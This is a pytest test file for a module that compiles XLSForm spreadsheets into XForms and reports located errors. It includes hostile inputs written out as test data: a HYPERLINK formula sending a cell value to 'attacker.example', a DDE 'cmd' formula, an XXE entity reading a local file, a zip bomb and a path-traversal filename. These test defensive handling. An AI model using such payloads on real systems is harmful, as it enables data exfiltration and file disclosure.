"""forms.compile: XLSForm → XForm, with every failure a located FormIssue (hostile inputs
38, 42, 44, 46)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from lxml import etree
from pyxform.errors import ErrorCode, PyXFormError

from forms import compile as compile_module
from forms.compile import (
    compile_xlsform,
    fallback_form_id,
    issues_from_exception,
    issues_from_text,
)
from forms.guards import name_warnings, sniff
from forms.issues import FormInvalid, FormIssue
from tests.unit.forms.workbook_builders import (
    MAIN_NS,
    SIMPLE_SURVEY,
    hand_xlsx,
    inline_cells,
    inline_row,
    sheet_xml,
    xls,
    xlsx,
)

BROKEN = Path(__file__).parents[2] / "data" / "forms" / "broken"
XFORMS = "{http://www.w3.org/2002/xforms}"
SIMPLE_MD = b"""
| survey |
|        | type    | name | label |
|        | integer | age  | Age   |
"""


def refused(data: bytes, kind: str = "md", **kwargs) -> FormInvalid:
    with pytest.raises(FormInvalid) as caught:
        compile_xlsform(data, kind=kind, **kwargs)
    return caught.value


def broken(name: str) -> FormInvalid:
    return refused((BROKEN / name).read_bytes())


def located(invalid: FormInvalid) -> list[tuple[str, str | None, int | None]]:
    return [(i.code, i.sheet, i.row) for i in invalid.errors]


def instance(xform: bytes) -> etree._Element:
    root = etree.fromstring(xform)
    return root.find(f".//{XFORMS}model/{XFORMS}instance")[0]


# ---------------------------------------------------------------------------- good forms

def test_compile__markdown_form_to_utf8_xform():
    result = compile_xlsform(SIMPLE_MD, kind="md")
    assert result.xform.startswith(b"<?xml")
    assert instance(result.xform).find(f"{XFORMS}age") is not None
    assert result.warnings == []


def test_compile__xlsx_written_by_openpyxl():
    result = compile_xlsform(xlsx({"survey": SIMPLE_SURVEY}), kind="xlsx")
    assert instance(result.xform).find(f"{XFORMS}name") is not None


def test_compile__csv_form_with_extra_sheets():
    data = (b"survey,,,\n,type,name,label\n,integer,age,Age\n"
            b"notes,,,\n,who,what,\n,me,drafted,\n")
    assert instance(compile_xlsform(data, kind="csv").xform).find(f"{XFORMS}age") is not None


def test_compile__xls_named_xlsx_compiles_with_a_warning():
    data = xls({"survey": SIMPLE_SURVEY, "settings": [["form_id"], ["from_xls"]]})
    kind = sniff(data, "registration.xlsx", None)
    result = compile_xlsform(data, kind=kind)
    warnings = name_warnings(kind, "registration.xlsx") + result.warnings
    assert kind == "xls"
    assert instance(result.xform).get("id") == "from_xls"
    assert [w.code for w in warnings] == ["file.kind_mismatch"]


# --------------------------------------------------------------------------------- form id

def test_compile__settings_form_id_wins_over_the_fallback():
    md = SIMPLE_MD + b"| settings |\n|  | form_id | form_title |\n|  | census_2024 | Census |\n"
    xform = compile_xlsform(md, kind="md", form_id_fallback="upload name.xlsx").xform
    assert instance(xform).get("id") == "census_2024"


def test_compile__fallback_is_the_form_id_and_title_when_settings_have_none():
    xform = compile_xlsform(SIMPLE_MD, kind="md", form_id_fallback="Worker%20survey.xlsx").xform
    assert instance(xform).get("id") == "Worker_survey"
    assert etree.QName(instance(xform)).localname == "data"
    assert b"<h:title>Worker_survey</h:title>" in xform


def test_compile__no_fallback_leaves_pyxforms_default_id():
    assert instance(compile_xlsform(SIMPLE_MD, kind="md").xform).get("id") == "data"


@pytest.mark.parametrize(("given", "expected"), [
    ("registration.xlsx", "registration"),
    ("my form.XLS", "my_form"),
    ("../../etc/passwd", "passwd"),
    ("C:\\Users\\amina\\Desktop\\fees.xlsx", "fees"),
    ("2024-census.xlsx", "_2024-census"),
    ("form.v2.xlsx", "form.v2"),
    ("....", None),
    ("", None),
    (None, None),
])
def test_fallback_form_id(given, expected):
    assert fallback_form_id(given) == expected


# ---------------------------------------------------------------- broken forms, located

def test_compile__two_duplicate_names_are_two_issues():
    assert located(broken("duplicate_names.md")) == [
        ("xlsform.duplicate_name", "survey", 4), ("xlsform.duplicate_name", "survey", 6)]


def test_compile__unknown_types():
    invalid = broken("unknown_types.md")
    assert located(invalid) == [("xlsform.unknown_type", "survey", 3),
                                ("xlsform.unknown_type", "survey", 5)]
    assert all(i.column == "type" for i in invalid.errors)


def test_compile__bad_references():
    invalid = broken("bad_references.md")
    assert [(i.code, i.row, i.column) for i in invalid.errors] == [
        ("xlsform.unknown_reference", 3, "label"), ("xlsform.unknown_reference", 4, "relevant")]


def test_compile__unclosed_group():
    assert located(broken("unclosed_group.md")) == [("xlsform.unclosed_group", "survey", 3)]


def test_compile__end_without_begin():
    assert located(broken("end_without_begin.md")) == [("xlsform.unmatched_end", "survey", 4)]


def test_compile__missing_choice_list():
    assert located(broken("missing_choice_list.md")) == [
        ("xlsform.missing_choice_list", "survey", 3)]


def test_compile__duplicate_choices():
    assert located(broken("duplicate_choices.md")) == [
        ("xlsform.duplicate_choice", "choices", 4)]


def test_compile__missing_label():
    assert located(broken("missing_label.md")) == [("xlsform.missing_label", "survey", 3)]


def test_compile__form_without_questions():
    assert [i.code for i in broken("no_questions.md").errors] == ["form.no_questions"]


def test_compile__every_mistake_reported_at_once():
    assert located(broken("everything_wrong.md")) == [
        ("xlsform.duplicate_name", "survey", 3),
        ("xlsform.unknown_type", "survey", 4),
        ("xlsform.unknown_reference", "survey", 5),
        ("xlsform.missing_choice_list", "survey", 6),
        ("xlsform.unclosed_group", "survey", 7),
        ("xlsform.duplicate_choice", "choices", 3),
    ]


def test_compile__pyxform_error_lint_does_not_know_is_kept_with_its_enum_code():
    md = b"""
| survey |
|        | type  | name | label | parameters |
|        | range | r    | R     | start=a    |
"""
    [issue] = refused(md).errors
    assert (issue.code, issue.row, issue.column) == ("pyxform.RANGE_001", 2, "parameters")
    assert issue.original.startswith("[row : 2]")


def test_compile__pyxform_warnings_are_located_warnings():
    md = b"""
| survey |
|        | type  | name | label |
|        | photo | pic  | Pic   |
|        | text  | Name | Name  |
|        | text  | name | name  |
"""
    warnings = compile_xlsform(md, kind="md").warnings
    assert [(w.level, w.code, w.row) for w in warnings] == [
        ("warning", "xlsform.photo_max_pixels", 2),
        ("warning", "xlsform.duplicate_name_case", 4)]


# ------------------------------------------------------------------- files that aren't forms

def test_compile__empty_file():
    assert [i.code for i in refused(b"", "xlsx").errors] == ["file.empty"]


def test_compile__truncated_xlsx():
    data = xlsx({"survey": SIMPLE_SURVEY})
    assert [i.code for i in refused(data[:-200], "xlsx").errors] == ["file.corrupt"]


def test_compile__workbook_with_only_a_header_row_has_no_questions():
    data = xlsx({"survey": [["type", "name", "label"]]})
    assert [i.code for i in refused(data, "xlsx").errors] == ["form.no_questions"]


def test_compile__workbook_without_a_survey_sheet():
    data = xlsx({"surveys": SIMPLE_SURVEY, "choices": [["list_name", "name", "label"]]})
    [issue] = refused(data, "xlsx").errors
    assert issue.code == "xlsform.missing_survey"
    assert "'surveys'" in issue.message


def test_compile__xml_is_not_compiled():
    assert [i.code for i in refused(b"<h:html/>", "xml").errors] == ["file.not_an_xlsform"]


def test_compile__markdown_text_is_never_taken_for_a_path(tmp_path):
    form = tmp_path / "form.md"
    form.write_bytes(SIMPLE_MD)
    assert [i.code for i in refused(str(form).encode(), "md").errors] == ["file.corrupt"]


# ----------------------------------------------------------------- cells and hostile parts

def test_compile__formula_cells_are_read_as_cached_values_never_evaluated():
    label = ('<c r="C2" t="str"><f>HYPERLINK("http://attacker.example/?"&amp;A2,"x")</f>'
             "<v>Your age</v></c>")
    type_without_cache = "<c r=\"A3\" t=\"str\"><f>cmd|' /c calc'!A1</f></c>"
    header = inline_row(1, "type", "name", "label")
    age = f'<row r="2">{inline_cells(2, "integer", "age")}{label}</row>'
    job = f'<row r="3">{type_without_cache}{inline_cells(3, "job", "Job", first_column=1)}</row>'
    xform = compile_xlsform(hand_xlsx(sheet_xml(header + age)), kind="xlsx").xform
    assert b"Your age" in xform
    assert b"HYPERLINK" not in xform and b"attacker" not in xform
    invalid = refused(hand_xlsx(sheet_xml(header + age + job)), "xlsx")
    assert located(invalid) == [("xlsform.missing_type", "survey", 3)]


def test_compile__xxe_in_shared_strings_never_reaches_the_xform_or_errors(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-42")
    strings = (f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{secret}">]>'
               f'<sst xmlns="{MAIN_NS}" count="1"><si><t>&xxe;</t></si></sst>')
    rows = inline_row(1, "type", "name", "label") + (
        '<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>'
        '<c r="B2" t="inlineStr"><is><t>q</t></is></c><c r="C2" t="s"><v>0</v></c></row>')
    invalid = refused(hand_xlsx(sheet_xml(rows), shared_strings=strings), "xlsx")
    assert [i.code for i in invalid.errors] == ["file.unsafe_xml"]
    assert "TOPSECRET" not in repr(invalid.issues)


def test_compile__xxe_is_refused_by_the_reader_too_when_the_guard_is_skipped(tmp_path,
                                                                             monkeypatch):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-42")
    strings = (f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{secret}">]>'
               f'<sst xmlns="{MAIN_NS}" count="1"><si><t>&xxe;</t></si></sst>')
    rows = inline_row(1, "type", "name", "label") + (
        '<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>'
        '<c r="B2" t="inlineStr"><is><t>q</t></is></c><c r="C2" t="s"><v>0</v></c></row>')
    monkeypatch.setattr(compile_module.guards, "check_workbook", lambda *a, **k: None)
    invalid = refused(hand_xlsx(sheet_xml(rows), shared_strings=strings), "xlsx")
    assert invalid.errors and "TOPSECRET" not in repr(invalid.issues)


def test_compile__zip_bomb_is_refused_before_pyxform(monkeypatch):
    def must_not_run(*_args, **_kwargs):
        raise AssertionError("pyxform ran on a zip bomb")

    monkeypatch.setattr(compile_module, "read_sheets", must_not_run)
    bomb = hand_xlsx(sheet_xml(inline_row(1, "type")),
                     extra={"xl/media/zeros.bin": b"\x00" * 3_000_000},
                     compression=zipfile.ZIP_DEFLATED)
    invalid = refused(bomb, "xlsx")
    assert [i.code for i in invalid.errors] == ["file.zip_bomb"] and invalid.too_large


def test_compile__huge_cell_in_an_error_message_is_clipped():
    md = b"| survey |\n|  | type | name | label |\n|  |  | q | " + b"x" * 50_000 + b" |\n"
    issues = refused(md).issues
    assert issues and all(len(i.message) <= 1001 and len(i.original or "") <= 1001
                          for i in issues)


# ---------------------------------------------------------- anything pyxform raises is caught

@pytest.mark.parametrize("exc", [TypeError("bad"), KeyError("type"), IndexError("list"),
                                 AttributeError("x"), ValueError("v"),
                                 etree.XMLSyntaxError("bad xml", None, 1, 1, "f")])
def test_compile__any_exception_from_pyxform_is_a_form_issue(monkeypatch, exc):
    def explode(*_args, **_kwargs):
        raise exc

    monkeypatch.setattr(compile_module, "convert", explode)
    [issue] = refused(SIMPLE_MD).errors
    assert issue.code == "xlsform.invalid"
    assert type(exc).__name__ in issue.original


def test_compile__memory_error_is_too_large(monkeypatch):
    def explode(*_args, **_kwargs):
        raise MemoryError

    monkeypatch.setattr(compile_module, "convert", explode)
    invalid = refused(SIMPLE_MD)
    assert [i.code for i in invalid.errors] == ["form.compile_too_large"] and invalid.too_large


# --------------------------------------------------------------------- pyxform's messages

def test_issues_from_text__row_sheet_and_column_from_the_message():
    [issue] = issues_from_text("[row : 5] On the 'survey' sheet, the 'name' value 'q1' is "
                               "invalid. Questions, groups, and repeats must be unique within "
                               "their nearest parent group or repeat, or the survey if not "
                               "inside a group or repeat.", "error")
    assert (issue.code, issue.sheet, issue.row, issue.column) == (
        "xlsform.duplicate_name", "survey", 5, "name")
    assert not issue.message.startswith("[row")


def test_issues_from_text__several_rows_in_one_message_are_several_issues():
    text = "\n".join(ErrorCode.NAMES_007.value.format(row=r) for r in (4, 9))
    assert [(i.code, i.sheet, i.row) for i in issues_from_text(text, "error")] == [
        ("xlsform.duplicate_choice", "choices", 4), ("xlsform.duplicate_choice", "choices", 9)]


def test_issues_from_text__enum_messages_keep_the_enum_name():
    text = ErrorCode.ENTITY_001.value.format(row=7)
    [issue] = issues_from_text(text, "error")
    assert (issue.code, issue.row, issue.column) == ("pyxform.ENTITY_001", 7, "save_to")


def test_issues_from_text__unrecognised_text_is_kept():
    [issue] = issues_from_text("Something nobody foresaw.", "error")
    assert (issue.code, issue.message, issue.original) == (
        "xlsform.invalid", "Something nobody foresaw.", "Something nobody foresaw.")
    assert issues_from_text("Something new.", "warning")[0].code == "xlsform.warning"


def test_issues_from_exception__pyxform_error_code_and_context():
    exc = PyXFormError(code=ErrorCode.PYREF_003,
                       context={"row": 3, "sheet": "choices", "column": "label", "q": "x"})
    [issue] = issues_from_exception(exc)
    assert (issue.code, issue.sheet, issue.row, issue.column) == (
        "xlsform.unknown_reference", "choices", 3, "label")


def test_issues_from_exception__reader_errors_are_corrupt_files():
    from openpyxl.utils.exceptions import InvalidFileException
    from xlrd import XLRDError

    for exc in (XLRDError("Unsupported format"), zipfile.BadZipFile("File is not a zip file"),
                InvalidFileException("nope")):
        assert [i.code for i in issues_from_exception(exc)] == ["file.corrupt"]


def test_issues_are_form_issues():
    assert all(isinstance(i, FormIssue) for i in broken("everything_wrong.md").issues)
